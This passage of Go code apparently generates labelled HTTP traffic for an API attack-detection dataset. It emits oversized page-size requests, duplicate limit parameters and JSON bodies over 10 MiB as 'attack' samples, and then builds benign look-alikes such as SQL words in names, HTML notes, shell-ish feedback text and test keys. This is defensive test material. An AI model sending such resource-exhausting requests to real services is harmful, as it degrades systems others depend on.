		h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/audit-events?maxResults=" + big()},
		h5Req{Method: "GET", Host: h5Claims, Path: "/v1/policies?PageSize=" + big()},
		h5Req{Method: "GET", Host: h5Ride, Path: "/v2/payments/history?LIMIT=" + big()},
		h5Req{Method: "POST", Host: h5CI, Path: "/api/v1/search", CType: "application/x-www-form-urlencoded", Body: "scope=commits&search=fix&pageSize=" + big()},
		h5Req{Method: "POST", Host: h5CI, Path: "/graphql", CType: "application/json", Body: `{"query":"query Q($first: Int!) { viewer { projects(first: $first) { nodes { id } } } }","variables":{"first":99999}}`},
		h5Req{Method: "GET", Host: h5Claims, Path: "/v1/claims?limit=" + big() + "&limit=10"},
	)
	// JSON bodies above 10 MiB.
	for i := 0; i < 3; i++ {
		reqs = append(reqs, h5Req{Method: "POST", Host: []string{h5Claims, h5CI, h5Ride}[i], Path: []string{"/v1/claims", "/api/v1/projects/web-portal/config", "/v2/trips/search"}[i], CType: "application/json",
			Body: `{"items":[{"id":"` + g.str(h5Alnum, 12) + `","note":"` + strings.Repeat("A", 400) + `"},`, Size: (11 + i*9) * 1024 * 1024})
	}
	for i, r := range reqs {
		resp := h5OK(h5JSON(map[string]any{"data": []any{}, "page": 1, "total": g.n(1000, 900000)}))
		if i%4 == 3 {
			resp = h5Err(400, "invalid_page_size", "Page size must be at most 1000.")
		}
		g.attack(r, resp, h5Limit)
	}
}

// benignTraps are benign exchanges close to attacks, one of each kind.
func (g *h5Gen) benignTraps() {
	b := func(req h5Req, resp h5Resp) { g.benignAdd(req, resp) }
	ok := h5OK(`{"ok":true}`)
	// SQL words and quotes in ordinary values.
	for _, q := range []string{"O'Reilly", "select chair", "union jack flag", "1=1 tips", "Drop Off Point", "d'Arcy & Sons", "who's insured -- me or my partner?", "SELECT Cars Ltd", "Delete my account please", "Rock 'n' Roll bar", "top 10 pubs", "create a claim"} {
		b(h5Req{Method: "GET", Host: g.pick(h5Claims, h5Ride), Path: "/v1/search?q=" + url.QueryEscape(q)}, h5OK(`{"hits":[]}`))
	}
	b(h5Req{Method: "POST", Host: h5Claims, Path: "/soap/ClaimService", CType: "text/xml; charset=utf-8", Headers: [][2]string{{"SOAPAction", "urn:claimsure:claims:v1#FindClaims"}}, Body: h5SOAP("FindClaims", "<cl:holderName>Siobhán O&apos;Brien</cl:holderName><cl:maxResults>50</cl:maxResults>")},
		h5Resp{Status: 200, CType: "text/xml", Body: `<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><FindClaimsResponse><count>0</count></FindClaimsResponse></soapenv:Body></soapenv:Envelope>`})
	// Markup in descriptions and comments.
	for _, d := range []string{"<p>Damage to <strong>rear bumper</strong> and <em>tail light</em>.</p><ul><li>photo 1</li><li>photo 2</li></ul>", "2 > 1 so the second quote wins", "<a href=\"https://www.gov.uk/report-a-crime\">police report guidance</a>", "Use <code>&lt;br&gt;</code> for line breaks", "A & B Motors quoted <b>£410</b>"} {
		b(h5Req{Method: "POST", Host: h5Claims, Path: "/v1/claims/" + g.claimID() + "/notes", CType: "application/json", Body: h5JSON(map[string]any{"text": d, "format": "html"})}, h5Created(`{"id":"note_t1"}`))
	}
	// Benign SVG upload.
	bd := "----ClaimSureBoundary" + g.str(h5Alnum, 12)
	b(h5Req{Method: "POST", Host: h5Claims, Path: "/v1/claims/" + g.claimID() + "/documents", CType: "multipart/form-data; boundary=" + bd, Body: h5Multipart(bd, [][4]string{{"kind", "", "", "sketch"}, {"file", "accident-sketch.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 100"><title>Junction sketch</title><rect x="10" y="40" width="60" height="20" fill="blue"/><path d="M100 50 L190 50" stroke="black"/><text x="10" y="90">Car A &#8594; Car B</text></svg>`}})}, h5Created(`{"id":"doc_svg1"}`))
	// Shell-ish text, documentation paths, templates.
	for _, t := range []string{"cat; dog toys in the boot", "Run `ls -la` in the project root to see the cache dir", "See ../README.md for setup", "nginx config lives in /etc/nginx/nginx.conf on the runner", "Hello {{name}}, your driver {{driver.first_name}} is arriving", "Total: ${price} incl. VAT", "Use `git log | head` to find it", "we && they both saw it", "Pipe | separated list: a|b|c"} {
		b(h5Req{Method: "POST", Host: g.pick(h5CI, h5Ride, h5Claims), Path: "/v1/feedback", CType: "application/json", Body: h5JSON(map[string]any{"message": t})}, h5Created(`{"ok":true}`))
	}
	b(h5Req{Method: "PUT", Host: h5Ride, Path: "/v2/admin/notification-templates/driver_arriving", CType: "application/json", Body: h5JSON(map[string]any{"locale": "en-GB", "subject": "{{driver.first_name}} is on the way", "body": "Hi {{rider.first_name}}, your {{vehicle.colour}} {{vehicle.make}} ({{vehicle.plate}}) arrives in {{eta_minutes}} min."})}, ok)
	// Pipeline definitions with shell commands where they belong.
	for _, y := range h5PipelineYAML {
		b(h5Req{Method: "POST", Host: h5CI, Path: "/api/v1/ci/lint", CType: "application/json", Body: h5JSON(map[string]any{"content": y, "dry_run": true})}, h5OK(`{"valid":true,"errors":[]}`))
	}
	// NoSQL-like query-language filters.
	b(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/trips?filters%5Bfare%5D%5B%24gt%5D=10&filters%5Bstatus%5D%5B%24eq%5D=completed"}, h5OK(`{"trips":[]}`))
	b(h5Req{Method: "POST", Host: h5Claims, Path: "/v1/claims/query", CType: "application/json", Body: `{"where":{"status":{"$in":["open","in_review"]},"amount_claimed.value":{"$gte":500,"$lt":5000}},"limit":100}`}, h5OK(`{"data":[]}`))
	// URLs to public hosts; the word localhost; private IPs in prose.
	for _, u := range []string{"https://8.8.8.8/", "https://claimsure-docs.s3.eu-west-2.amazonaws.com/templates/form-a.pdf", "https://www.met.police.uk/ro/report/", "https://1.1.1.1/dns-query", "https://api.github.com/repos/ridego/maps-sdk/releases/latest", "https://52.94.236.248/health"} {
		b(h5Req{Method: "POST", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/webhooks", CType: "application/json", Body: h5JSON(map[string]any{"url": u, "events": []string{"release"}})}, h5Created(`{"id":"wh_pub"}`))
	}
	b(h5Req{Method: "POST", Host: h5Claims, Path: "/v1/claims/" + g.claimID() + "/messages", CType: "application/json", Body: h5JSON(map[string]any{"body": "The broadband router at 192.168.1.1 was fried by the lightning strike, plus the NAS at 10.0.0.20."})}, h5Created(`{"id":"msg_ip"}`))
	b(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/status", Headers: [][2]string{{"X-Forwarded-For", "10.12.0.8, 203.0.113.40"}, {"X-Forwarded-Host", h5CI}, {"Referer", "https://app.buildhive.example/ridego/rider-app/-/pipelines"}}}, h5OK(`{"status":"ok"}`))
	// Page sizes at the bar and large non-page numbers.
	b(h5Req{Method: "GET", Host: h5Claims, Path: "/v1/claims?limit=1000"}, h5OK(`{"data":[]}`))
	b(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/drivers/nearby?lat=51.5&lng=-0.1&radius=50000&timeout_ms=30000"}, h5OK(`{"drivers":[]}`))
	b(h5Req{Method: "POST", Host: h5CI, Path: "/api/v1/projects/rider-app/cache", CType: "application/json", Body: `{"cache":{"size":4096,"ttl":86400},"runner":{"max_jobs":8,"memory_mb":16384}}`}, ok)
	b(h5Req{Method: "POST", Host: h5CI, Path: "/graphql", CType: "application/json", Body: h5JSON(map[string]any{"query": "query { project(id: \"prj_1\") { pipelines(first: 1000) { nodes { id } } } }"})}, h5OK(`{"data":{"project":{"pipelines":{"nodes":[]}}}}`))
	b(h5Req{Method: "GET", Host: h5Claims, Path: "/v1/claims/" + g.claimID() + "/documents/doc_big", Auth: ""}, h5Resp{Status: 200, CType: "application/pdf", Body: "JVBERi0xLjcK" + g.str(h5Alnum, 200), Size: 18 * 1024 * 1024})
	// Public and test credentials, masked values.
	b(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/config/public"}, h5Resp{Status: 200, CType: "application/json", Body: h5JSON(map[string]any{"stripe_publishable_key": "pk_live_" + g.str(h5Alnum, 99), "maps_key_hint": "AIza…(restricted)", "sentry_dsn_public": "https://" + g.str(h5Hex, 32) + "@o4471.ingest.sentry.example/77"}), Headers: [][2]string{{"Access-Control-Allow-Origin", "*"}}})
	b(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/.well-known/jwks.json", Auth: "-"}, h5OK(h5JSON(map[string]any{"keys": []any{map[string]any{"kty": "RSA", "kid": "2026-11-key_2", "use": "sig", "alg": "RS256", "n": g.str(h5Alnum+"-_", 342), "e": "AQAB"}}})))
	b(h5Req{Method: "GET", Host: h5Claims, Path: "/v1/policies/" + g.policyID() + "/billing"}, h5OK(h5JSON(map[string]any{"card": "**** **** **** 1111", "order_number": h5NotLuhn("4", g), "hash": g.str(h5Hex, 40)})))
	b(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/projects/payments-svc/secrets/STRIPE_KEY"}, h5OK(h5JSON(map[string]any{"name": "STRIPE_KEY", "value": "sk_test_" + g.str(h5Alnum, 24), "environment": "test"})))
	b(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/user/settings"}, h5OK(h5JSON(map[string]any{"password_changed_at": "2026-09-12T10:00:00Z", "password_policy": map[string]any{"min_length": 12, "require_symbol": true}, "has_password": true, "two_factor": "totp"})))
	// Stack-trace-like words in user text; clean error bodies.
	b(h5Req{Method: "POST", Host: h5Ride, Path: "/v2/support/chats/" + g.uuid() + "/messages", CType: "application/json", Body: `{"text":"the app said NullPointerException and then Traceback something, then closed"}`}, h5Created(`{"queued":true}`))
	b(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/docs/troubleshooting"}, h5OK(h5JSON(map[string]any{"title": "Reading a failed job", "body": "If the log ends with a stack trace, open the first frame that points at your own code. Database errors such as a syntax error in a migration show up in the migrate stage."})))
	b(h5Req{Method: "POST", Host: h5Claims, Path: "/v1/claims", CType: "application/json", Body: `{"policy_id":"POL-HOME-000000"}`}, h5Resp{Status: 422, CType: "application/json", Body: `{"error":"validation_failed","details":[{"field":"incident","message":"is required"},{"field":"policy_id","message":"no policy with this number"}],"trace_id":"4bf92f3577b34da6a3ce929d0e0e4736"}`})
	b(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/trips/trp_doesnotexist"}, h5Err(404, "not_found", "Trip not found"))
	b(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/jobs/991/log"}, h5Resp{Status: 200, CType: "text/plain", Body: "$ pytest -q\n....F\nFAILED tests/test_surge.py::test_cap - AssertionError: assert 2.5 == 2.0\n1 failed, 4 passed in 0.31s\n"})
	// Expired token refused, kid with a date.
	for i := 0; i < 4; i++ {
		exp := h5Token(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-03-key_1"}, map[string]any{"sub": "usr_" + g.str(h5Alnum, 12), "role": "developer", "iat": h5Base.Add(-30 * time.Hour).Unix(), "exp": h5Base.Add(-6 * time.Hour).Unix()}, "sign")
		b(h5Req{Method: "GET", Host: []string{h5CI, h5Claims, h5Ride, h5CI}[i], Path: "/api/v1/user", Auth: "Bearer " + exp}, h5Resp{Status: 401, CType: "application/json", Body: `{"error":"token_expired"}`, Headers: [][2]string{{"WWW-Authenticate", `Bearer error="invalid_token"`}}})
	}
	// Own-origin CORS with credentials, public CORS without.
	for _, h := range []string{h5Claims, h5Ride, h5CI} {
		b(h5Req{Method: "GET", Host: h, Path: "/v1/me", Headers: [][2]string{{"Origin", h5Origins[h]}}}, h5Resp{Status: 200, CType: "application/json", Body: `{"id":"me"}`, Headers: [][2]string{{"Access-Control-Allow-Origin", h5Origins[h]}, {"Access-Control-Allow-Credentials", "true"}, {"Vary", "Origin"}}})
		b(h5Req{Method: "GET", Host: h, Path: "/v1/public/status", Auth: "-", Headers: [][2]string{{"Origin", "https://status-page.example"}}}, h5Resp{Status: 200, CType: "application/json", Body: `{"status":"operational"}`, Headers: [][2]string{{"Access-Control-Allow-Origin", "*"}}})
	}
}
